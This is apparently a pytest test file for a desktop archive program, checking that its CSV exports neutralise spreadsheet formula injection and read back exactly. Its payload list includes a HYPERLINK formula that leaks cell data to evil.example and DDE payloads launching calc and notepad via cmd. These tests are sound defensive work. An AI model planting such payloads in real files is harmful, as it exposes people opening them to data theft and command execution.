"""No CSV the program writes makes a spreadsheet run a formula; its own files read back exactly.

Text planted in a list or an archive (``=HYPERLINK("http://…"&A1)``, ``@SUM(…)``) must come
out of every export as text a spreadsheet shows, not a formula it evaluates (OWASP CSV
injection), checked two ways: by the rule spreadsheets follow on each cell, and by
LibreOffice itself opening the files (when it is installed).
"""

import csv
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from tests.conftest import NewLocation
from tests.helpers.sql import db_argument

from powmia_desktop.cli import main
from powmia_desktop.core.formula_guard import guard, unguard
from powmia_desktop.core.vocab import MeetingType
from powmia_desktop.db.archive import Archive
from powmia_desktop.db.models import Contact, ContactPhone, Meeting, Serviceman, TimelineEvent
from powmia_desktop.services.exporting.files import csv_bytes
from powmia_desktop.services.exporting.privacy import Privacy
from powmia_desktop.services.exporting.timeline_csv import export_timeline
from powmia_desktop.services.importing.tabular import parse_table
from powmia_desktop.services.importing.timeline import import_events

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "'=1+1",  # someone's own protection: kept as typed
    "\uff1d1+1",
    "=cmd|' /C notepad'!'A1'",
]
#: Cells a spreadsheet cannot be stopped from trimming first: stored, then written guarded.
PADDED = ["\t=1+1", " =1+1", "\r=1+1"]
EXPORTS = ("cases", "contacts", "meetings", "events", "dna-followup")


def spreadsheet_formula(cell: str) -> bool:
    """Whether Excel, LibreOffice or Google Sheets would take ``cell`` as a formula: a formula
    sign first (ASCII or full-width), also after blanks or a tab they trim."""
    return cell.lstrip(" \t\r\n\u3000")[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")


def _plant(archive: Archive) -> None:
    with archive.session() as session:
        for number, text in enumerate([*PLANTED, *PADDED]):
            session.add(Serviceman(surname=text, given_names=text, unit=text))
            contact = Contact(display_name=text, organization=text, title=text)
            contact.phones.append(ContactPhone(number=f"+1 202 555 01{number:02}"))
            session.add(contact)
            session.add(Meeting(title=text, place=text, meeting_type=MeetingType.OTHER))
            session.add(TimelineEvent(title=text, description=text, place_text=text))


def _export(db: str, kind: str, out: Path) -> list[list[str]]:
    code = main(["--db", db, "export", kind, str(out), "--include-private"])
    assert code == 0
    return list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("kind", EXPORTS)
def test_no_exported_cell_is_a_formula(archive: Archive, tmp_path: Path, kind: str) -> None:
    _plant(archive)
    db = db_argument(archive.location)
    archive.close()
    rows = _export(db, kind, tmp_path / f"{kind}.csv")
    cells = [cell for row in rows for cell in row]
    assert len(rows) > len(PLANTED)
    assert not [c for c in cells if spreadsheet_formula(c)]
    assert any(c == "'" + PLANTED[0] for c in cells)  # still there, as text


@given(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00\ufeff")))
@settings(max_examples=300, deadline=None)
def test_guard_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not spreadsheet_formula(guard(text)) or guard(text).startswith("'")


@given(
    st.lists(
        st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00\ufeff")),
        min_size=1,
        max_size=4,
    )
)
@settings(max_examples=200, deadline=None)
def test_the_programs_csv_reads_back_exactly(cells: list[str]) -> None:
    headers = ["First", *(f"Column {i}" for i in range(2, len(cells) + 2))]
    table = parse_table(csv_bytes(headers, [["x", *cells]]))
    assert table.headers == headers
    assert table.rows == [["x", *cells]]


def test_an_exported_timeline_with_formulas_imports_back_unchanged(
    archive: Archive, tmp_path: Path, new_location: NewLocation
) -> None:
    other_archive = Archive.open(new_location("other"), create=True)
    with archive.session() as session:
        for text in PLANTED:
            session.add(TimelineEvent(title=text, description=text, place_text=text))
    path = tmp_path / "events.csv"
    with archive.reader() as session:
        export_timeline(session, path, privacy=Privacy.everything())
    with other_archive.session() as session:
        result = import_events(session, path)
    assert result.counts["events"] == len(PLANTED) and not result.rejected
    with other_archive.reader() as session:
        stored = session.execute(
            select(TimelineEvent.title, TimelineEvent.description, TimelineEvent.place_text)
        ).all()
    other_archive.close()
    assert sorted(stored) == sorted((t, t, t) for t in PLANTED)


def test_a_list_protected_with_a_quote_imports_without_it(tmp_path: Path) -> None:
    table = parse_table(b"Name,Note\nKim,'=1+1\nLee,''=2\nPark,'plain\n")
    assert [r[1] for r in table.rows] == ["=1+1", "'=2", "'plain"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.sqlite_only  # LibreOffice reads the written files, checked on both engines above
def test_libreoffice_evaluates_no_formula_in_any_export(archive: Archive, tmp_path: Path) -> None:
    _plant(archive)
    db = db_argument(archive.location)
    archive.close()
    out = tmp_path / "out"
    out.mkdir()
    files = [tmp_path / f"{kind}.csv" for kind in EXPORTS]
    for kind, path in zip(EXPORTS, files, strict=True):
        _export(db, kind, path)
    control = tmp_path / "control.csv"  # the same text unguarded: LibreOffice must see formulas
    control.write_text("Name\n=1+1\n@SUM(1;2)\n", encoding="utf-8")
    profile = (tmp_path / "lo-profile").as_uri()
    # Comma-separated, UTF-8, "evaluate formulas" on: the way most open a CSV.
    options = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation={profile}", "--headless",
            f"--infilter={options}", "--convert-to", "fods", "--outdir", str(out),
            *map(str, [control, *files]),
        ],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    assert "table:formula=" in (out / "control.fods").read_text(encoding="utf-8")
    for path in files:
        sheet = (out / f"{path.stem}.fods").read_text(encoding="utf-8")
        assert "HYPERLINK" in sheet, path.name  # the text arrived
        assert "table:formula=" not in sheet, path.name
